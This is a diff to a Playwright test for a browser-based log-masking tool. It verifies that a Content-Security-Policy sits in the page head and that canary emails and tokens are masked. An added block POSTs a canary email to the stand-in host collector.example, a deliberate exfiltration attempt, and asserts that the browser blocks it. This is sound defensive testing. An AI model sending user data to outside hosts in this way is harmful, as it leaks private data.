@@ -133,7 +133,8 @@ test('4. /tool with consent accepted: only same-origin requests, CSP present, th
   await expect(page).toHaveURL(/\/tool\/$/);
   await page.waitForLoadState('networkidle');
 
-  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+  // in <head>, where the browser enforces it (a CSP meta in <body> is ignored)
+  const csp = await page.locator('head > meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
   expect(csp).toBeTruthy();
   expect(csp).toMatch(/default-src 'self'/);
   expect(csp).toMatch(/connect-src 'self'/);
@@ -150,12 +151,28 @@ test('4. /tool with consent accepted: only same-origin requests, CSP present, th
     ip: '10.77.31.203',
   };
   const input = `2024-05-01T10:00:00Z login ok user=${canary.email} from ${canary.ip}\nAuthorization: Bearer ${canary.token}\n`;
-  await page.getByRole('textbox').first().fill(input);
-  await page.getByRole('button', { name: /^Mask$/ }).click();
-  await expect(page.getByText(/\[Masked Email 1\]/).first()).toBeVisible();
-  await page.getByRole('button', { name: /^Replace$/ }).click();
+  const output = page.getByRole('region', { name: 'Output' });
+  await page.getByLabel('Input', { exact: true }).fill(input);
+  await page.getByRole('button', { name: 'Mask', exact: true }).click();
+  await expect(output).toContainText('[Masked Email 1]');
+  await expect(output).not.toContainText(canary.email);
+  await page.getByRole('button', { name: 'Replace', exact: true }).click();
+  await expect(output).not.toContainText('[Masked Email 1]');
+  await expect(output).not.toContainText(canary.email);
   await page.waitForTimeout(1000);
   await page.waitForLoadState('networkidle');
+
+  // the CSP is enforced, not just present: a scripted upload attempt is refused by the browser itself
+  const attempt = await page.evaluate(async (value) => {
+    const violations: string[] = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+    const result = await fetch(`https://collector.example/upload?d=${encodeURIComponent(value)}`, { method: 'POST', body: value })
+      .then(() => 'sent')
+      .catch(() => 'refused');
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    return { result, violations };
+  }, canary.email);
+  expect(attempt).toEqual({ result: 'refused', violations: ['connect-src'] });
   await net.settle();
 
   expect(net.thirdParty()).toEqual([]);
